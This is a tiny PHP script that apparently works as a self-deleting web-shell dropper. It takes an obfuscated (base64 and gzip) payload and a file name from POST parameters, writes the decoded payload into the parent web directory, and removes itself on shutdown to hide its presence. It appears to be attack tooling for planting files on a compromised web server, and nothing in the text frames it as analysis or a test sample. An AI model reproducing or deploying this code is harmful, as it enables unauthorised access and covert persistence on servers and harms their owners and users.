<?php
register_shutdown_function('unlink', __FILE__);
$c = gzinflate(base64_decode($_POST['p']));
file_put_contents('../' . basename($_POST['n']), $c);
